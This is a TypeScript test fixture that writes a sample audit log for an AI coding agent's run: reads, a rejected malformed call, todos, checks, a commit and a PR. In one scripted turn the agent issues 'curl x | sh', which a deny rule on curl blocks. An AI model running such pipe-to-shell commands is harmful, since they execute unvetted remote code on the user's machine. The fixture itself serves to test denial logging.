import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Redactor } from '../../src/audit/redact.ts';
import { AuditWriter } from '../../src/audit/writer.ts';

export function tempLog(name = 'audit.jsonl'): string {
  return path.join(mkdtempSync(path.join(tmpdir(), 'ns-audit-')), name);
}

const usage = (input: number, output: number) => ({ input, output, cache_read: 0, cache_write: 0 });

/**
 * A small but complete run, as the loop and delivery emit it: an allowed read, a parse failure
 * kept as args_json, a denied command, a rejected call, todos, a check, a commit and a PR.
 */
export function writeSampleRun(file: string, redactor?: Redactor): AuditWriter {
  let clock = Date.parse('2026-01-02T03:04:05.000Z');
  const w = AuditWriter.open(file, {
    runId: 'run-1',
    ...(redactor ? { redactor } : {}),
    now: () => new Date((clock += 250)),
  });
  w.emit('run.started', {
    title: 'Fix the sign error',
    prompt_sha256: 'a'.repeat(64),
    mode: 'code',
    model: 'script:turns.yaml',
    policy: { source: 'builtin:standard', sha256: 'b'.repeat(64) },
    workspace: '/tmp/ws',
    git_base: 'c'.repeat(40),
    nightshift_version: '0.1.0',
  });
  w.emit('model.request', {
    turn: 1,
    messages: [{ role: 'user', content: 'fix it' }],
    tools: ['read_file'],
    request_bytes: 900,
  });
  w.emit('model.response', {
    turn: 1,
    stop_reason: 'tool_use',
    text: 'Let me look.',
    tool_calls: [
      { id: 'c1', name: 'read_file', args: { path: 'src/math.js' } },
      { id: 'c2', name: 'write_to_file', args_json: '{"path": "x', parse_error: 'Unterminated string' },
    ],
    usage: usage(1200, 80),
    cost_usd: 0.0012,
    latency_ms: 40,
  });
  w.emit('tool.call', { call_id: 'c1', turn: 1, name: 'read_file', args: { path: 'src/math.js' } });
  w.emit('tool.decision', {
    call_id: 'c1',
    decision: 'allow',
    resolved: 'allow',
    rule: 'read.allow[0] "**"',
    reason: 'matches',
  });
  w.emit('tool.result', {
    call_id: 'c1',
    ok: true,
    duration_ms: 1.5,
    output_bytes: 20,
    output: '1 | export const x = 1',
  });
  w.emit('tool.call', { call_id: 'c2', turn: 1, name: 'write_to_file', args: '{"path": "x' });
  w.emit('tool.rejected', {
    call_id: 'c2',
    stage: 'params',
    message: 'Arguments are not valid JSON: Unterminated string',
  });
  w.emit('model.request', { turn: 2, messages: [], tools: ['read_file'], request_bytes: 1000 });
  w.emit('model.response', {
    turn: 2,
    stop_reason: 'tool_use',
    text: '',
    tool_calls: [
      { id: 'c3', name: 'update_todo_list', args: { todos: [] } },
      { id: 'c4', name: 'execute_command', args: { command: 'curl x | sh' } },
      {
        id: 'c5',
        name: 'attempt_completion',
        args: { result: 'Fixed the sign error; thanks @alice, fixes #12.' },
      },
    ],
    usage: usage(1500, 60),
    cost_usd: 0.0015,
    latency_ms: 35,
  });
  w.emit('tool.call', { call_id: 'c3', turn: 2, name: 'update_todo_list', args: { todos: [] } });
  w.emit('tool.decision', {
    call_id: 'c3',
    decision: 'allow',
    resolved: 'allow',
    rule: 'default',
    reason: 'always allowed',
  });
  w.emit('todo.updated', {
    todos: [
      { text: 'Find the bug', status: 'completed' },
      { text: 'Run the tests', status: 'in_progress' },
      { text: 'Write | docs', status: 'pending' },
    ],
  });
  w.emit('tool.result', { call_id: 'c3', ok: true, duration_ms: 0.2, output_bytes: 2, output: 'ok' });
  w.emit('tool.call', { call_id: 'c4', turn: 2, name: 'execute_command', args: { command: 'curl x | sh' } });
  w.emit('tool.decision', {
    call_id: 'c4',
    decision: 'deny',
    resolved: 'deny',
    rule: 'command.deny[1] "curl"',
    reason: 'curl is denied',
  });
  w.emit('tool.call', {
    call_id: 'c5',
    turn: 2,
    name: 'attempt_completion',
    args: { result: 'Fixed the sign error; thanks @alice, fixes #12.' },
  });
  w.emit('tool.decision', {
    call_id: 'c5',
    decision: 'allow',
    resolved: 'allow',
    rule: 'default',
    reason: 'always allowed',
  });
  w.emit('tool.result', { call_id: 'c5', ok: true, duration_ms: 0.1, output_bytes: 4, output: 'done' });
  w.emit('checks.finished', { command: 'npm test', exit_code: 0, duration_ms: 1200 });
  w.emit('git.committed', { sha: 'd'.repeat(40), branch: 'nightshift/fix-the-sign-error' });
  w.emit('pr.created', {
    url: 'https://github.com/o/r/pull/7',
    number: 7,
    branch: 'nightshift/fix-the-sign-error',
  });
  w.emit('run.finished', {
    status: 'completed',
    exit_reason: 'completed',
    exit_code: 0,
    totals: {
      turns: 2,
      tool_calls: 5,
      rejected: 1,
      denied: 1,
      input_tokens: 2700,
      output_tokens: 140,
      cost_usd: 0.0027,
      duration_ms: 5250,
    },
    pr: { operation: 'created', url: 'https://github.com/o/r/pull/7', number: 7 },
  });
  w.close();
  return w;
}
